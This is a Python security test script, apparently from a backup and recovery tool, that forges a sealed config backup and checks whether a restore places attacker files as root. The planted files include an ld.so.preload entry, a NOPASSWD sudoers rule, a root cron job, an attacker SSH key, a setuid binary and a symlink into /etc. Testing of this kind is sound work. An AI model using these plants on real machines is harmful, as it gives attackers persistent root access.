#!/usr/bin/env python3
# Copyright: Lifeboat contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attack: who took the stack's host writes a config backup of his own, and a recovery places it as root.

It uses files and command lines only. The backup is written by hand: an archive, its listing and the manifest, each with
the hashes that it must have. Everything lies below one directory, which stands for the machine's root: the inventory
names ROOT/srv/shop, and what the attacker is after lies next to it.

Usage: place_files.py product|unprotected ROOT

product: the module that a recovery of a site places its files with, from Ansible's command line. unprotected: tar, as
an operator unpacks a backup by hand. Prints each thing that the attacker got, a line each. Exit 0: he got something.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
from collections.abc import Mapping
from pathlib import Path

import ended

Files = Mapping[str, tuple[int, str]]
STACK, IDENTITY = "shop", "config_backup_20261124_033000"
OWN = {"srv/shop/compose.yml": (0o644, "services: {}\n"), "srv/shop/.env.example": (0o644, "PASSWORD=\n")}
# What makes him root again on the new machine, or lets him in.
WANTED = {
    "etc/ld.so.preload": (0o644, "/srv/shop/evil.so\n"),
    "etc/sudoers.d/shop": (0o440, "shop ALL=(ALL) NOPASSWD: ALL\n"),
    "etc/cron.d/shop": (0o644, "* * * * * root /srv/shop/evil\n"),
    "root/.ssh/authorized_keys": (0o600, "ssh-ed25519 AAAA attacker\n"),
    "srv/shop/evil": (0o4755, "#!/bin/sh\n"),
}
LINKS = {"srv/shop/conf": "../../etc"}


def write(
    root: Path, own: Files = OWN, wanted: Files = WANTED, links: Mapping[str, str] = LINKS, stack: str = STACK
) -> Path:  # fmt: skip
    """The attacker's backup, in the repository that the inventory names. Returns its directory."""
    folder = root / "backup/config" / IDENTITY
    folder.mkdir(parents=True, mode=0o700)
    files, archive = [], io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz", format=tarfile.GNU_FORMAT) as made:
        for name, (mode, text) in {**own, **wanted}.items():
            files.append(_add(made, root / name, mode, text.encode(), ""))
        for name, target in links.items():
            files.append(_add(made, root / name, 0o777, b"", target))
    listing = {"schema": "lifeboat.dr/files", "version": [1, 0], "files": files}
    artefacts = {"config.tar.gz": archive.getvalue(), "files.json": json.dumps(listing).encode()}
    for name, data in artefacts.items():
        (folder / name).write_bytes(data)
        (folder / name).chmod(0o600)
    taken = "2026-11-24T03:30:00Z"
    manifest = {
        "schema": "lifeboat.dr/backup", "version": [1, 0], "id": IDENTITY, "component": "config", "stack": stack,
        "taken_at": taken, "finished_at": taken, "tool": {"lifeboat": "0.1.0"},
        "details": {"files": len(files), "bytes": 0, "secrets": 0},
        "artefacts": [
            {"name": name, "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
            for name, data in sorted(artefacts.items())
        ],
    }  # fmt: skip
    canonical = json.dumps(manifest, sort_keys=True, separators=(",", ":")).encode()
    sealed = {**manifest, "seal": hashlib.sha256(canonical).hexdigest()}  # no key is needed for that
    (folder / "manifest.json").write_text(json.dumps(sealed, indent=1) + "\n")
    (folder / "manifest.json").chmod(0o600)
    return folder


def _add(archive: tarfile.TarFile, path: Path, mode: int, data: bytes, target: str) -> dict[str, object]:
    member = tarfile.TarInfo(str(path).lstrip("/"))
    member.type = tarfile.SYMTYPE if target else tarfile.REGTYPE
    member.mode, member.size, member.linkname, member.mtime = mode, len(data), target, 1_700_000_000
    member.uid, member.gid = os.getuid(), os.getgid()
    archive.addfile(member, io.BytesIO(data))
    return {
        "path": str(path), "type": "link" if target else "file", "mode": f"{mode:04o}", "uid": member.uid,
        "gid": member.gid, "mtime": member.mtime, "size": len(data), "target": target, "archive": "config.tar.gz",
        "sha256": "" if target else hashlib.sha256(data).hexdigest(),
    }  # fmt: skip


def unprotected(root: Path, folder: Path) -> None:
    """By hand, as runbooks have it: `tar -xzpf config.tar.gz -C /`."""
    subprocess.run(["tar", "-xzpf", str(folder / "config.tar.gz"), "-C", "/"], check=True)


def product(root: Path, folder: Path) -> None:
    """The two calls of the role site_recovery: files first, cron files and units at the end."""
    settings = {
        "stack": STACK,
        "runtime": {"type": "host", "project_directory": str(root / "srv/shop")},
        "database": {"service": "postgresql", "name": "shop"},
        "repository": {"type": "local", "path": str(root / "backup")},
        "state_directory": str(root / "var/lib/lifeboat/shop"),
    }
    for which in ("files", "schedules"):
        given = {"settings": settings, "id": folder.name, "place": "repository", "which": which}
        words = ["ansible", "localhost", "-i", "localhost,", "-c", "local", "-m", "lifeboat.dr.config_deploy"]
        words += ["-e", f"ansible_python_interpreter={sys.executable}", "-a", json.dumps(given)]
        environment = {**os.environ, "ANSIBLE_CALLBACK_RESULT_FORMAT": "json"}
        done = subprocess.run(words, check=False, capture_output=True, text=True, env=environment)
        print(done.stdout + done.stderr, file=sys.stderr)
        if done.returncode:
            raise SystemExit("the module failed, which proves nothing")


def got(root: Path) -> list[str]:
    """What of it is on the machine as the attacker wants it."""
    found = []
    for name, (mode, text) in WANTED.items():
        path = root / name
        special = mode & 0o7000
        if path.is_file() and path.read_text() == text and path.stat().st_mode & special == special:
            found.append(name)
    return found + [name for name in LINKS if (root / name).is_symlink()]


def main() -> int:
    target, root = {"product": product, "unprotected": unprotected}[sys.argv[1]], Path(sys.argv[2]).resolve()
    root.chmod(0o700)  # for a moment there may be a setuid program below it
    target(root, write(root))
    if not all((root / name).is_file() for name in OWN):
        raise SystemExit("the stack's own files are not there: this was no recovery")
    found = got(root)
    print("\n".join(found))
    return 0 if found else 1


if __name__ == "__main__":
    ended.end(main)
